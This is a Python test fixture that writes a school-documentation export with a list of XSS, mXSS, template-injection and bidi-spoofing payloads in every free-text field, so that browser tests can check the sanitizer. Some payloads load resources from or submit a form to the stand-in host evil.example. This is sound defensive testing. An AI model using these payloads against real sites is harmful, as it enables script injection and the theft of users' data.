"""A hostile export on disk: every Markdown body and every free-text field carries XSS payloads.

It starts from the minimal valid export of tests/export (one guardian, one child, one class) and
replaces each free-text value with all payloads at once, so one build exercises every payload in
every place a teacher or the register can write text. Each payload that could run calls
`alert("xss-…")` (or fetches evil.example) with its own marker, so a browser test can say which
one ran.
"""

from __future__ import annotations

import json
from datetime import date
from pathlib import Path
from typing import Any

import yaml

from tests.export import minimal

# A right-to-left override in a name: "Elsa‮gnp.exe" shows as "Elsaexe.png" in naive UIs.
BIDI_NAME = "Elsa\u202egnp.exe\u202c"
PAYLOADS = (
    "<script>alert('xss-script')</script>",
    "<img src=x onerror=\"alert('xss-onerror')\">",
    "<a href=\"javascript:alert('xss-js-href')\">klick</a>",
    "<a href=\" JaVaScRiPt:alert('xss-js-mixed')\">klick</a>",
    "<svg onload=\"alert('xss-svg')\"><script>alert('xss-svg-script')</script></svg>",
    '<p style="background:url(https://evil.example/css)">css</p>',
    "<style>*{background:url(https://evil.example/style)}</style>",
    "<!-- hidden --><script>alert('xss-after-comment')</script><!-- -->",
    "<!--<img src=x onerror=\"alert('xss-in-comment')\">-->",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/meta">',
    "<iframe srcdoc=\"<script>alert('xss-iframe')</script>\"></iframe>",
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">',
    '<form action="https://evil.example/f"><input name="pnr"><button>Skicka</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=\"alert('xss-mxss')\">",
    '"><img src=x onerror="alert(\'xss-attr-break\')">',
    "<details open ontoggle=\"alert('xss-ontoggle')\">",
    "{{ 7*7 }} {% raw %}",
    BIDI_NAME,
)
ALL = " ".join(PAYLOADS)
# Markdown-only spellings of the same attacks.
MARKDOWN_EXTRA = (
    "[md-link](javascript:alert('xss-md-link'))",
    "<javascript:alert('xss-autolink')>",
    "[ref-link][r]\n\n[r]: javascript:alert('xss-ref-link')",
    "![bild](https://evil.example/tracker.png)",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
)
# The template syntax also opens the body: later on, an unclosed `<script>` swallows the rest
# (the payloads' own "{{ 7*7 }}" among it), so only here does the body's arrive in a fragment.
BODY = "Hej **hemmet**. {{ 7*7 }}\n\n" + "\n\n".join((*PAYLOADS, *MARKDOWN_EXTRA)) + "\n"
# Strings that the app, not the sanitizer, must keep inert: they reach JSON as plain text.
MARKERS = [p.split("'")[1] for p in PAYLOADS if "'xss-" in p]


def _doc(front: dict[str, Any]) -> str:
    return "---\n" + yaml.safe_dump(front, allow_unicode=True, sort_keys=False) + "---\n" + BODY


def _post() -> dict[str, Any]:
    return {
        "date": date(2026, 9, 4),
        "author": ALL,
        "title": ALL,
        "subjects": [ALL],
        "goals": [ALL],
        "attachments": [{"file": "bild.png", "alt": ALL, "caption": ALL}],
    }


def _texts() -> dict[str, dict[str, Any]]:
    return {
        minimal.POST: _post(),
        minimal.ASSESSMENT: {
            "subject": ALL,
            "date": date(2026, 11, 2),
            "author": ALL,
            "level": "3",
        },
        minimal.IUP: {
            "updated": date(2026, 10, 1),
            "author": ALL,
            "goals": [ALL],
            "agreements": {"school": [ALL], "student": [ALL], "home": [ALL]},
        },
        minimal.TALK: {
            "date": date(2026, 11, 12),
            "time": "14:30",
            "place": ALL,
            "student_questions": [ALL],
            "guardian_questions": [ALL],
            "previous_agreements": [ALL],
        },
        minimal.PLAN: {
            "title": ALL,
            "subject": ALL,
            "start": date(2026, 9, 1),
            "end": date(2026, 10, 30),
            "goals": [ALL],
            "matrix_levels": [ALL, ALL],
            "matrix": [{"criterion": ALL, "levels": [ALL, ALL]}],
        },
    }


def _export_toml() -> str:
    text = json.dumps(ALL)  # a TOML basic string is a JSON string for these characters
    return (
        minimal.EXPORT_TOML.replace('"Provby kommun"', text)
        .replace('name = "Provskolan"', f"name = {text}")
        .replace('name = "Fyrgradig skala"', f"name = {text}")
        .replace('label = "Godtagbart"', f"label = {text}")
        + (
            f"\n[[faq]]\nquestion = {text}\nanswer = {json.dumps(BODY)}\n"
            f'\n[[service_links]]\nkind = "contact"\nlabel = {text}\n'
            'url = "https://kommun.example/kontakt"\n'
        )
        + minimal.LEGAL_TOML.replace(
            'purpose = "Att vårdnadshavare ska kunna läsa dokumentationen om sitt barn."',
            f"purpose = {{ sv = {text}, en = {text} }}",
        ).replace('description = "Inskannade PDF-bilagor saknar text."', f"description = {text}")
    )


def _register() -> dict[str, Any]:
    data = minimal.register_data()
    for person in data["persons"]:
        person["givenName"] = BIDI_NAME if person["id"] == minimal.CHILD else ALL
        person["familyName"] = ALL
    for group in data["groups"]:
        group["displayName"] = ALL
    for organisation in data["organisations"]:
        organisation["displayName"] = ALL
    return data


def write_hostile_export(root: Path) -> Path:
    """The minimal export with a payload in every Markdown body and every free-text field."""
    minimal.write_minimal_export(root)
    for rel, front in _texts().items():
        (root / rel).write_text(_doc(front), encoding="utf-8")
    (root / "export.toml").write_text(_export_toml(), encoding="utf-8")
    minimal.write_register(root, _register())
    return root
